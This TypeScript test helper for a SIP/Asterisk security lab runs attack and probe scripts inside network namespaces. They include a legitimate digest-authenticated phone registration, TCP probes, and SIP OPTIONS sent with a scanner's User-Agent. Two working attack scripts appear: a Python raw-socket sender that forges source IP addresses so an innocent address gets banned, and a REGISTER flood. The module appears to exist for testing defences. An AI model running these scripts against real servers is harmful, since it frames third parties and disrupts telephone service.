/**
 * Attacks and reachability probes run inside a lab namespace, for the trust and exposure lab tests. Each is a
 * short Node.js script run with `ip netns exec`, so packets leave from the namespace's own stack:
 *  - a phone that registers with the right password (digest MD5), as a real phone does;
 *  - a TCP connect from a chosen source address: "open", "refused" or "timeout";
 *  - a SIP OPTIONS with a chosen User-Agent (a scanner's, or an ordinary one);
 *  - blind REGISTERs with a forged source address, as an attacker sends them to get someone else banned. Node.js
 *    cannot forge a source, so this one is Python's raw socket (IP_HDRINCL: the attacker writes the IP header);
 *    python3 is there wherever sipvicious is.
 * Tests and the lab only.
 */
import { run, runOk } from "@/test/rules/netns";

import { runAsyncOk } from "./exec";

const REGISTER_PHONE = `
const dgram = require("node:dgram");
const crypto = require("node:crypto");
const [host, from, user, password] = process.argv.slice(1);
const md5 = (t) => crypto.createHash("md5").update(t).digest("hex");
const s = dgram.createSocket("udp4");
const callId = "phone-" + Date.now();
const msg = (cseq, auth) => ["REGISTER sip:" + host + " SIP/2.0", "Via: SIP/2.0/UDP " + from + ";branch=z9hG4bKphone" + cseq + "x" + Date.now(), "From: <sip:" + user + "@" + host + ">;tag=p1", "To: <sip:" + user + "@" + host + ">", "Call-ID: " + callId, "CSeq: " + cseq + " REGISTER", "Contact: <sip:" + user + "@" + from + ">", "User-Agent: Yealink SIP-T46S 66.86.0.15", "Expires: 120", "Max-Forwards: 70", ...(auth ? [auth] : []), "Content-Length: 0", "", ""].join("\\r\\n");
s.on("message", (m) => {
  const text = m.toString();
  const status = text.split("\\r\\n")[0];
  const nonce = /nonce="([^"]+)"/.exec(text);
  const realm = /realm="([^"]+)"/.exec(text);
  if (status.startsWith("SIP/2.0 401") && nonce && realm) {
    const uri = "sip:" + host;
    const response = md5(md5(user + ":" + realm[1] + ":" + password) + ":" + nonce[1] + ":" + md5("REGISTER:" + uri));
    s.send(msg(2, 'Authorization: Digest username="' + user + '", realm="' + realm[1] + '", nonce="' + nonce[1] + '", uri="' + uri + '", response="' + response + '", algorithm=MD5'), 5060, host);
    return;
  }
  console.log(status);
  process.exit(0);
});
s.bind(30000 + Math.floor(Math.random() * 20000), from, () => s.send(msg(1), 5060, host));
setTimeout(() => { console.log("timeout"); process.exit(0); }, 4000);
`;

const TCP_PROBE = `
const net = require("node:net");
const [host, port, from] = process.argv.slice(1);
const c = net.connect({ host, port: Number(port), localAddress: from });
c.on("connect", () => { console.log("open"); process.exit(0); });
c.on("error", (e) => { console.log(e.code === "ECONNREFUSED" ? "refused" : "error " + e.code); process.exit(0); });
setTimeout(() => { console.log("timeout"); process.exit(0); }, 2500);
`;

const OPTIONS_WITH_AGENT = `
const dgram = require("node:dgram");
const [host, from, agent] = process.argv.slice(1);
const s = dgram.createSocket("udp4");
const msg = ["OPTIONS sip:" + host + " SIP/2.0", "Via: SIP/2.0/UDP " + from + ";branch=z9hG4bKagent" + Date.now(), "From: <sip:probe@" + from + ">;tag=1", "To: <sip:" + host + ">", "Call-ID: agent-" + Date.now(), "CSeq: 1 OPTIONS", "User-Agent: " + agent, "Max-Forwards: 70", "Content-Length: 0", "", ""].join("\\r\\n");
s.on("message", (m) => { console.log(m.toString().split("\\r\\n")[0]); process.exit(0); });
s.bind(20000 + Math.floor(Math.random() * 20000), from, () => s.send(msg, 5060, host));
setTimeout(() => { console.log("timeout"); process.exit(0); }, 3000);
`;

// One UDP datagram per REGISTER, IP and UDP headers written by hand: the source is whatever the attacker says.
// An unknown account and no credentials: Asterisk logs such a request at once (InvalidAccountID), so a blind
// packet counts against the forged address without any answer reaching the attacker.
const FORGED_REGISTERS = `
import random, socket, struct, sys
src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
def checksum(data):
    if len(data) % 2: data += b"\\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for i in range(count):
    sport = random.randint(20000, 60000)
    user = "forged%d" % random.randint(1000, 9999)
    payload = "\\r\\n".join(["REGISTER sip:%s SIP/2.0" % dst, "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bKforged%d" % (src, sport, i), "From: <sip:%s@%s>;tag=f%d" % (user, dst, i), "To: <sip:%s@%s>" % (user, dst), "Call-ID: forged-%d-%d@%s" % (i, random.randint(0, 1 << 30), src), "CSeq: 1 REGISTER", "Contact: <sip:%s@%s:%d>" % (user, src, sport), "User-Agent: Yealink SIP-T46S 66.86.0.15", "Max-Forwards: 70", "Content-Length: 0", "", ""]).encode()
    length = 8 + len(payload)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, length)
    udp = struct.pack("!HHHH", sport, 5060, length, checksum(pseudo + struct.pack("!HHHH", sport, 5060, length, 0) + payload) or 0xffff)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, random.randint(0, 0xffff), 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
    raw.sendto(ip + udp + payload, (dst, 0))
print(count)
`;

const REGISTER_FLOOD = `
import socket, sys, time
src, dst, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((src, 0))
port = s.getsockname()[1]
s.setblocking(False)
start = time.monotonic()
sent = 0
while True:
    now = time.monotonic() - start
    if now >= seconds: break
    due = int(now * rate)
    while sent < due:
        payload = "\\r\\n".join(["REGISTER sip:%s SIP/2.0" % dst, "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bKflood%d" % (src, port, sent), "From: <sip:1001@%s>;tag=f%d" % (dst, sent), "To: <sip:1001@%s>" % dst, "Call-ID: flood-%d@%s" % (sent, src), "CSeq: 1 REGISTER", "Contact: <sip:1001@%s:%d>" % (src, port), "User-Agent: Yealink SIP-T46S 66.86.0.15", "Max-Forwards: 70", "Expires: 60", "Content-Length: 0", "", ""]).encode()
        try:
            s.sendto(payload, (dst, 5060))
        except BlockingIOError:
            pass
        sent += 1
    try:
        while True: s.recv(65535)
    except BlockingIOError:
        pass
    time.sleep(0.0005)
print(sent)
`;

/** RATE REGISTERs per second (unauthenticated, from one source FROM, its own address) for SECONDS; returns how many were sent. */
export async function floodRegisters(namespace: string, host: string, from: string, rate: number, seconds: number): Promise<number> {
  const result = await runAsyncOk("ip", ["netns", "exec", namespace, "/usr/bin/python3", "-c", REGISTER_FLOOD, from, host, String(rate), String(seconds)]);
  return Number(result.trim());
}

/**
 * Makes ADDRESS the source of everything the attacker sends that does not bind an address itself. sipvicious 0.3.3
 * ignores its own `-b` (it always binds 0.0.0.0), so a tool run from a chosen address needs the kernel to pick it.
 */
export function setAttackerSource(namespace: string, address: string): void {
  runOk("ip", ["-n", namespace, "route", "replace", "198.18.0.0/15", "dev", "eth0", "proto", "kernel", "scope", "link", "src", address]);
}

function inNamespace(namespace: string, script: string, args: readonly string[]): string {
  return runOk("ip", ["netns", "exec", namespace, process.execPath, "-e", script, ...args]).trim();
}

/** A phone's registration with the right password: the final status line ("SIP/2.0 200 OK") or "timeout". */
export function registerPhone(namespace: string, host: string, from: string, user: string, password: string): string {
  return inNamespace(namespace, REGISTER_PHONE, [host, from, user, password]);
}

export function tcpProbe(namespace: string, host: string, port: number, from: string): string {
  return inNamespace(namespace, TCP_PROBE, [host, String(port), from]);
}

export function sipOptionsWithAgent(namespace: string, host: string, from: string, agent: string): string {
  return inNamespace(namespace, OPTIONS_WITH_AGENT, [host, from, agent]);
}

/**
 * A TCP listener on HOST:PORT in a node's namespace (a service bound to the node's network address, such as an AMI
 * configured to listen on every address; the lab's real AMI listens on the loopback only); returns its stopper.
 */
export function listenInNamespace(namespace: string, port: number, host: string): () => void {
  if (!/^198\.1[89]\.\d{1,3}\.\d{1,3}$/.test(host) || !Number.isInteger(port)) throw new Error(`not a lab listener: ${host}:${port}`);
  // A probe that has seen the connection open resets it at once: the server ignores the socket's error.
  const script = `require("node:net").createServer((c) => { c.on("error", () => {}); c.end("hello\\n"); }).listen(${port}, "${host}"); setTimeout(() => process.exit(0), 600000);`;
  const started = run("sh", ["-c", `ip netns exec ${namespace} ${process.execPath} -e '${script}' >/dev/null 2>&1 & echo $!`]);
  const pid = Number(started.stdout.trim());
  return () => {
    if (Number.isInteger(pid) && pid > 0) run("kill", [String(pid)]);
  };
}

/** COUNT blind REGISTERs to HOST with the forged source address FROM (IPv4); nothing comes back to the sender. */
export function forgeRegisters(namespace: string, host: string, from: string, count: number): void {
  runOk("ip", ["netns", "exec", namespace, "/usr/bin/python3", "-c", FORGED_REGISTERS, from, host, String(count)]);
}
